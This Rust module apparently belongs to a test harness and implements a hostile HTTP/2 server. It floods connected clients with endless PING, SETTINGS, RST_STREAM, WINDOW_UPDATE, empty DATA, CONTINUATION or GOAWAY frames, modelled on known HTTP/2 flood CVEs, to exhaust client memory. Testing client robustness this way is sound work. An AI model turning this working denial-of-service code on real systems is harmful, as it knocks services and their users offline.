//! The hostile behaviours ([`H2Flood`]): after the connection preface (and, for the ones that
//! need a live stream, the client's first request), the server writes one kind of frame as fast
//! as the socket takes it and never reads again. What a client owes for them (PING and SETTINGS
//! acknowledgements) is never read either, so a client that queues its replies without bound
//! grows until it is killed. These are the HTTP/2 floods of CVE-2019-9512 (ping), -9515
//! (settings), -9518 (empty frames), -9514 (reset) and the CONTINUATION flood, turned on a
//! client.

use super::frame::{self, code, flag, kind, parse_frame, put_frame, put_header, PREFACE};
use crate::listener::Conn;
use crate::{read_some, Input, READ_CHUNK};

/// Frames written per batch (a write of a few hundred KiB).
const BATCH_FRAMES: usize = 4096;
/// How long the server waits for the client's first request before giving up.
const REQUEST_WAIT: std::time::Duration = std::time::Duration::from_secs(5);

/// What an [`super::H2Behavior::Flood`] server sends without end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum H2Flood {
    /// PING frames (each owes an acknowledgement).
    Ping,
    /// SETTINGS frames of one entry (each owes an acknowledgement).
    Settings,
    /// After the client's first request: RST_STREAM(CANCEL) of that stream, over and over (the
    /// first resets it, the rest are for a stream that ended).
    ResetStream,
    /// WINDOW_UPDATE frames of 1 byte on the connection (when the client sent no DATA).
    WindowUpdate,
    /// After the client's first request: its response's HEADERS (`:status 200`, no
    /// END_STREAM), then empty DATA frames without END_STREAM.
    EmptyData,
    /// After the client's first request: HEADERS without END_HEADERS, then CONTINUATION frames
    /// of 16 bytes that never end the block.
    Continuation,
    /// After the client's first request: GOAWAY(last stream 2^31-1, NO_ERROR), over and over,
    /// the request never answered.
    Goaway,
}

impl H2Flood {
    /// Every flood, for tests that run them all.
    pub const ALL: [H2Flood; 7] = [
        H2Flood::Ping,
        H2Flood::Settings,
        H2Flood::ResetStream,
        H2Flood::WindowUpdate,
        H2Flood::EmptyData,
        H2Flood::Continuation,
        H2Flood::Goaway,
    ];

    /// Whether the flood waits for a stream the client opened.
    fn needs_stream(self) -> bool {
        matches!(
            self,
            H2Flood::ResetStream | H2Flood::EmptyData | H2Flood::Continuation | H2Flood::Goaway
        )
    }

    /// The frames written once before the flood, on `stream`.
    fn prefix(self, stream: u32) -> Vec<u8> {
        let mut out = Vec::new();
        put_frame(&mut out, kind::SETTINGS, 0, 0, &[]);
        match self {
            H2Flood::EmptyData => {
                let block = frame::response_block(0);
                put_frame(&mut out, kind::HEADERS, flag::END_HEADERS, stream, &block);
            }
            H2Flood::Continuation => {
                let block = frame::response_block(0);
                put_frame(&mut out, kind::HEADERS, 0, stream, &block);
            }
            _ => {}
        }
        out
    }

    /// One frame of the flood, on `stream`.
    fn frame(self, stream: u32, out: &mut Vec<u8>) {
        match self {
            H2Flood::Ping => put_frame(out, kind::PING, 0, 0, b"floodnow"),
            H2Flood::Settings => {
                put_frame(out, kind::SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]);
            }
            H2Flood::ResetStream => {
                put_frame(out, kind::RST_STREAM, 0, stream, &8u32.to_be_bytes());
            }
            H2Flood::WindowUpdate => {
                put_frame(out, kind::WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes());
            }
            H2Flood::EmptyData => put_header(out, 0, kind::DATA, 0, stream),
            H2Flood::Continuation => put_frame(out, kind::CONTINUATION, 0, stream, &[0x40; 16]),
            H2Flood::Goaway => {
                let mut payload = 0x7fff_ffffu32.to_be_bytes().to_vec();
                payload.extend_from_slice(&code::NO_ERROR.to_be_bytes());
                put_frame(out, kind::GOAWAY, 0, 0, &payload);
            }
        }
    }
}

/// Serves one connection with `flood`; returns the batches written (to the shared count).
pub(super) fn serve(conn: &mut Conn, flood: H2Flood) -> u64 {
    let stream = if flood.needs_stream() {
        match first_request(conn) {
            Some(id) => id,
            None => return 0,
        }
    } else {
        0
    };
    let prefix = flood.prefix(stream);
    let mut batch = Vec::new();
    for _ in 0..BATCH_FRAMES {
        flood.frame(stream, &mut batch);
    }
    let mut io = conn
        .stream
        .try_clone()
        .expect("a clone of the connection's socket");
    conn.flood(&mut io, &prefix, &batch)
}

/// Reads the preface and frames until the client's first HEADERS; its stream id (the server's
/// own SETTINGS go out first, so that the client may send).
fn first_request(conn: &mut Conn) -> Option<u32> {
    use std::io::Write;
    let mut settings = Vec::new();
    put_frame(&mut settings, kind::SETTINGS, 0, 0, &[]);
    conn.stream.write_all(&settings).ok()?;
    let until = std::time::Instant::now() + REQUEST_WAIT;
    let mut buf = Vec::with_capacity(READ_CHUNK);
    let mut at = 0;
    while !conn.stopping() && std::time::Instant::now() < until {
        if let Input::Closed = read_some(&mut conn.stream, &mut buf) {
            return None;
        }
        if at == 0 && buf.len() >= PREFACE.len() {
            at = PREFACE.len();
        }
        while at > 0 {
            let Some((f, used)) = parse_frame(&buf[at..]) else {
                break;
            };
            if f.kind == kind::HEADERS {
                return Some(f.stream);
            }
            at += used;
        }
    }
    None
}
